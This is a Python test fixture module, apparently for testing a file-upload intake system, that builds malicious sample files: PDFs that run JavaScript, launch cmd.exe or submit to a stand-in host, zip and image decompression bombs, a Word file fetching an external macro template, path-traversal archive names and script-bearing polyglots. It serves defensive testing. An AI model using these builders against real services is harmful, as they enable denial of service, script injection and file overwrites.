"""Files made to do harm, each after a known trick."""

import io
import struct
import zipfile
import zlib

from tests.intake.send import heic, picture

PIXEL = picture("PNG", (1, 1))
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


def archive(*entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as packed:
        for name, content in entries:
            packed.writestr(name, content)
    return out.getvalue()


def office(folder="word", *entries):
    return archive(
        ("[Content_Types].xml", "<Types/>"), (f"{folder}/document.xml", "<x/>"), *entries
    )


def pdf_of(objects):
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, content in enumerate(objects, 1):
        places.append(out.tell())
        raw = content if isinstance(content, bytes) else content.encode()
        out.write(b"%d 0 obj" % number + raw + b"endobj\n")
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF".encode())
    return out.getvalue()


# --- PDF -----------------------------------------------------------------------------------------

PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]{}>>"


def acting_pdf(action):
    """Does something when it is opened."""
    catalog = f"<</Type/Catalog/Pages 2 0 R/OpenAction{action}>>"
    return pdf_of([catalog, PAGES, PAGE.format("")])


def carrying_pdf():
    """Another file inside, under a name that leaves its folder."""
    catalog = "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x)4 0 R]>>>>>>"
    spec = "<</Type/Filespec/F(../../evil.exe)/EF<</F 5 0 R>>>>"
    return pdf_of([catalog, PAGES, PAGE.format(""), spec, "<</Length 2>>stream\nMZ\nendstream\n"])


def swelling_pdf():
    """A page whose drawing is a hundred megabytes once inflated."""
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * (7 * 2**20), 9)
    about = b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed)
    stream = about + packed + b"\nendstream\n"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE.format("/Contents 4 0 R"), stream])


def huge_page_pdf():
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e38 1e38]>>"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", PAGES, page])


def lying_count_pdf():
    pages = "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", pages, PAGE.format("")])


def huge_picture_pdf():
    """A picture of a hundred thousand dots each way, on a page."""
    packed = zlib.compress(bytes(10**6), 9)
    about = (
        b"<</Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    )
    draw = "<</Length 22>>stream\n99 0 0 99 0 0 cm /I Do\nendstream\n"
    page = PAGE.format("/Contents 5 0 R/Resources<</XObject<</I 4 0 R>>>>")
    picture_ = about + packed + b"\nendstream\n"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", PAGES, page, picture_, draw])


def looping_table_pdf():
    """Its table of objects goes on where it began."""
    content = acting_pdf("<</S/URI/URI(x)>>")
    start = content.rindex(b"xref\n0")
    return content.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def deep_pages_pdf(depth=3_000):
    kids = [f"<</Type/Pages/Kids[{n + 3} 0 R]/Count 1>>" for n in range(depth)]
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", *kids, PAGE.format("")])


# --- Office --------------------------------------------------------------------------------------


def outside_template():
    """Word fetches its template, with the macros in it, from elsewhere."""
    link = (
        '<Relationships><Relationship Id="rId1" TargetMode="External" '
        'Type=".../attachedTemplate" Target="http://192.0.2.1/evil.dotm"/></Relationships>'
    )
    return office("word", ("word/_rels/settings.xml.rels", link))


def lying_sizes():
    """Says it holds a kilobyte, and inflates to forty megabytes."""
    content = bytearray(office("xl", ("xl/worksheets/sheet1.xml", b"\0" * (40 * 2**20))))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = content.rindex(mark)
        content[place + at : place + at + 4] = struct.pack("<L", 1024)
    return bytes(content)


def hundred_thousand_entries():
    return office("word", *((f"word/{number}", b"") for number in range(100_000)))


def overlapping_entries(count=4_000):
    """Every entry is the same bytes: Fifield's bomb."""
    content = office("xl", ("xl/x.bin", b"\0" * (15 * 2**20)))
    end = content.rindex(b"PK\x05\x06")
    start = int.from_bytes(content[end + 16 : end + 20], "little")
    directory = content[start:end]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    directory += last * count
    record = bytearray(content[end:])
    record[8:16] = struct.pack("<HHL", count + 3, count + 3, len(directory))
    return content[:start] + directory + bytes(record)


def travelling_names():
    return office("word", ("../../../etc/cron.d/x", b"x"), ("C:\\evil", b"x"))


# --- Pictures ------------------------------------------------------------------------------------


def png_chunk(kind, content):
    crc = zlib.crc32(kind + content)
    return struct.pack("!L", len(content)) + kind + content + struct.pack("!L", crc)


def swelling_png(kind):
    """A colour profile, or a remark, of a hundred megabytes once inflated."""
    packed = b"x\0\0" + zlib.compress(bytes(100 * 2**20), 9)
    return PIXEL[:33] + png_chunk(kind, packed) + PIXEL[33:]


def heic_claiming(width, height):
    content = bytearray(heic())
    at = content.index(b"ispe") + 8
    content[at : at + 8] = struct.pack("!LL", width, height)
    return bytes(content)


def deep_heic(depth=20_000):
    """Boxes in boxes."""
    content = heic()
    nested = b"".join(struct.pack("!L4s", 8 * (depth - n), b"moov") for n in range(depth))
    return content[: int.from_bytes(content[:4], "big")] + nested + content[28:]


def many_segments_jpeg():
    """A million remarks before the picture begins."""
    return b"\xff\xd8" + b"\xff\xfe\x00\x03x" * 1_000_000 + picture()[2:]


def endless_filling():
    """Thirty megabytes of what stands between two marks."""
    return b"\xff\xd8" + b"\xff" * (30 * 2**20) + picture()[2:]


def million_chunks():
    return PIXEL[:33] + png_chunk(b"prVt", b"") * 1_000_000 + PIXEL[33:]


# --- Two files in one ----------------------------------------------------------------------------


def gifar():
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + archive(("Evil.class", b"\xca\xfe\xba\xbe"))


def page_in_front_of_pdf():
    return SCRIPT + b"\n" + acting_pdf("<</S/URI/URI(x)>>")


def archive_behind_pdf():
    return acting_pdf("<</S/URI/URI(x)>>") + archive(("evil.exe", b"MZ"))


def page_in_a_photo():
    content = picture()
    remark = b"\xff\xfe" + struct.pack("!H", len(SCRIPT) + 2) + SCRIPT
    return content[:2] + remark + content[2:]


def archive_behind_a_photo():
    return picture() + archive(("evil.exe", b"MZ"))


def page_behind_a_photo():
    return picture() + SCRIPT


# --- Text ----------------------------------------------------------------------------------------


def in_utf_16(order):
    return SCRIPT.decode().encode(order)


def in_utf_7():
    return SCRIPT.decode().encode("utf-7")


TRICKS = {
    "javascript": lambda: acting_pdf("<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "launch": lambda: acting_pdf("<</S/Launch/F(cmd.exe)>>"),
    "submit": lambda: acting_pdf("<</S/SubmitForm/F(http://192.0.2.1/)>>"),
    "carrying": carrying_pdf,
    "swelling": swelling_pdf,
    "huge_page": huge_page_pdf,
    "lying_count": lying_count_pdf,
    "huge_picture": huge_picture_pdf,
    "looping_table": looping_table_pdf,
    "deep_pages": deep_pages_pdf,
    "outside_template": outside_template,
    "lying_sizes": lying_sizes,
    "hundred_thousand": hundred_thousand_entries,
    "overlapping": overlapping_entries,
    "travelling_names": travelling_names,
    "swelling_profile": lambda: swelling_png(b"iCCP"),
    "swelling_remark": lambda: swelling_png(b"zTXt"),
    "giant_heic": lambda: heic_claiming(2**31 - 1, 2**31 - 1),
    "wide_heic": lambda: heic_claiming(60_000, 60_000),
    "deep_heic": deep_heic,
    "many_segments": many_segments_jpeg,
    "endless_filling": endless_filling,
    "million_chunks": million_chunks,
    "gifar": gifar,
    "page_in_front_of_pdf": page_in_front_of_pdf,
    "archive_behind_pdf": archive_behind_pdf,
    "page_in_a_photo": page_in_a_photo,
    "archive_behind_a_photo": archive_behind_a_photo,
    "page_behind_a_photo": page_behind_a_photo,
    "utf_16": lambda: in_utf_16("utf-16"),
    "utf_16_unmarked": lambda: in_utf_16("utf-16-be"),
    "utf_32": lambda: in_utf_16("utf-32"),
    "utf_7": in_utf_7,
}
